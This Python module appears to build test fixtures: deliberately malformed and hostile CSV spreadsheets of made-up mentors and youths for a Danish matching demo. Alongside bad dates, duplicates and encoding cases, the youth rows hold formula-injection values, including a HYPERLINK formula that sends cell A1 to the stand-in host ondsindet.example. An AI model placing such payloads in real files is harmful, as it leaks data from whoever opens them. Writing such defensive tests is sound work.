"""Broken and hostile spreadsheets. demo/fejl/README.md says what must become of each of them."""

from demo import columns
from demo.sheet import EXCEL_ANSI, EXCEL_UTF8, SEMICOLON, sheet

MEGABYTE = 1024 * 1024


def files():
    return {
        "mentorer-datoer.csv": sheet(EXCEL_UTF8, columns.MENTORS, _dates()),
        "mentorer-dubletter.csv": sheet(SEMICOLON, columns.MENTORS, _duplicates()),
        "mentorer-uden-navn.csv": sheet(
            SEMICOLON, [name for name in columns.MENTORS if name != "navn"],
            [{key: cell for key, cell in _mentor("M921", "").items() if key != "navn"}]),
        "unge-formler.csv": sheet(SEMICOLON, columns.YOUTHS, _formulas()),
        "unge-windows-1252.csv": sheet(EXCEL_ANSI, [*columns.YOUTHS, "skostørrelse"], _line_breaks()),
        "match-ukendt-mentor.csv": sheet(SEMICOLON, columns.MATCHES, _matches()),
        "kontakter-stor-celle.csv": sheet(SEMICOLON, columns.CONTACTS, _contacts()),
    }


def _mentor(key, name, **cells):
    return {"id": key, "navn": name, "fødselsdato": "14-05-1961", "køn": "kvinde", "telefon": "20 00 90 00",
            "postnr": "5500", "by": "Middelfart", "sektor": "offentlig", "uddannelse": "Videregående uddannelse",
            "engagement": "frivillig", "kapacitet": "1", "status": "aktiv", "statusdato": "01-09-2011", **cells}


def _dates():
    return [
        _mentor("M901", "Rigtig Datosen", telefon="20 00 90 01"),
        _mentor("M902", "Findes Ikkesen", telefon="20 00 90 02", fødselsdato="31-02-1961"),
        _mentor("M903", "Ord Datosen", telefon="20 00 90 03", fødselsdato="i foråret"),
        _mentor("M904", "Måned Trettensen", telefon="20 00 90 04", statusdato="01-13-2011"),
        _mentor("M905", "Mange Pladsen", telefon="20 00 90 05", kapacitet="mange"),
        _mentor("M906", "Skudår Datosen", telefon="20 00 90 06", fødselsdato="29. februar 1960"),
        _mentor("M907", "To Ciffersen", telefon="20 00 90 07", fødselsdato="14-05-61"),
    ]


def _duplicates():
    return [
        _mentor("M911", "Første Nummersen", telefon="20 00 91 01"),
        _mentor("M911", "Anden Nummersen", telefon="20 00 91 02", fødselsdato="02-02-1962"),
        _mentor("", "Uden Nummersen", telefon="20 00 91 03", fødselsdato="03-03-1963"),
        _mentor("", "Uden Nummersen", telefon="20 00 91 03", fødselsdato="03-03-1963"),
        _mentor("", "Uden Nummersen", telefon="20 00 91 03", fødselsdato="04-04-1964"),
    ]


def _youth(key, name, **cells):
    return {"id": key, "navn": name, "fødselsdato": "07-08-1990", "køn": "m", "telefon": "20 00 92 00",
            "postnr": "5500", "by": "Middelfart", "henvist": "01-11-2011", "henvist af": "Birgitte Lynggaard",
            "ydelse": "kontanthjælp", "status": "venter", "statusdato": "01-11-2011", **cells}


def _formulas():
    return [
        _youth("U901", '=HYPERLINK("http://ondsindet.example/?"&A1;"Klik her")', telefon="20 00 92 01"),
        _youth("U902", "Plus Formelsen", telefon="20 00 92 02", by="+1+1"),
        _youth("U903", "Snabel Formelsen", telefon="20 00 92 03", by="@SUM(A1:A9)"),
        _youth("U904", "Minus Formelsen", telefon="20 00 92 04", by="-2+3"),
        _youth("U905", "Tabulator Formelsen", telefon="20 00 92 05", by="\t=1+1"),
    ]


def _line_breaks():
    return [
        _youth("U911", "Åse Ærøsø", telefon="20 00 92 11", køn="k", by="Nørre\r\nAaby"),
        _youth("U912", 'Søren "Smed" Ågård', telefon="20 00 92 12", by="Middelfart; vest", skostørrelse="43"),
    ]


def _matches():
    return [
        {"id": "R901", "mentor": "M999", "ung": "U901", "start": "15-11-2011", "form": "individuel"},
        {"id": "R902", "mentor": "M901", "ung": "U999", "start": "15-11-2011", "form": "individuel"},
        {"id": "R903", "mentor": "M901", "ung": "U902", "start": "15-11-2011", "slut": "01-11-2011",
         "ophørsårsag": "eget ønske", "form": "individuel"},
        {"id": "R904", "mentor": "M901", "ung": "U902", "start": "15-11-2011", "slut": "20-11-2011",
         "form": "individuel"},
        {"id": "R905", "mentor": "M901", "ung": "U903", "start": "15-11-2011", "form": "individuel"},
    ]


def _contacts():
    held = {"dato": "20-11-2011", "kl": "16.00", "minutter": "60", "mentor": "M901", "ung": "U903", "måde": "møde",
            "afholdt": "ja"}
    return [{"id": "K9001", **held, "emner": "praktik"}, {"id": "K9002", **held, "emner": "a" * MEGABYTE}]
